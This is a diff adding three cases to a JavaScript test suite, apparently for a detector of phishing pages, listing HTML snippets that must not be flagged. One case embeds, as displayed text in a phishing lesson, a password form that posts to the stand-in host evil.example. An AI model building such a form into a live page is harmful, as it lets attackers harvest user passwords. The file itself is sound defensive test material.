@@ -75,6 +75,18 @@ describe("must pass", () => {
       `<title>Keys</title><p>Never type your private key or recovery phrase into a page.</p><input name="q">`,
     ],
     [
+      "a sign-in that a script writes, for its own server",
+      `<title>App</title><div id="root"></div><script>root.innerHTML = '<form action="/login"><input type="password" name="p"></form>'</script>`,
+    ],
+    [
+      "a newsletter's form that a script writes beside a sign-in of its own",
+      `<title>Blog</title><div id="a"></div><script>a.innerHTML = '<form action="https://x.us1.list-manage.com/subscribe"><input type="email" name="EMAIL"></form>'; b.innerHTML = '<form action="/login"><input type="password" name="p"></form>'</script>`,
+    ],
+    [
+      "a lesson on phishing with the code of a form to look at",
+      `<title>How phishing works</title><pre id="c"></pre><script>c.textContent = '<form action="https://evil.example"><input type="password" name="p"></form>'</script>`,
+    ],
+    [
       "programs that are named in code",
       `<title>x</title><script>a.href = URL.createObjectURL(blob); a.download = "report.csv"</script>`,
     ],
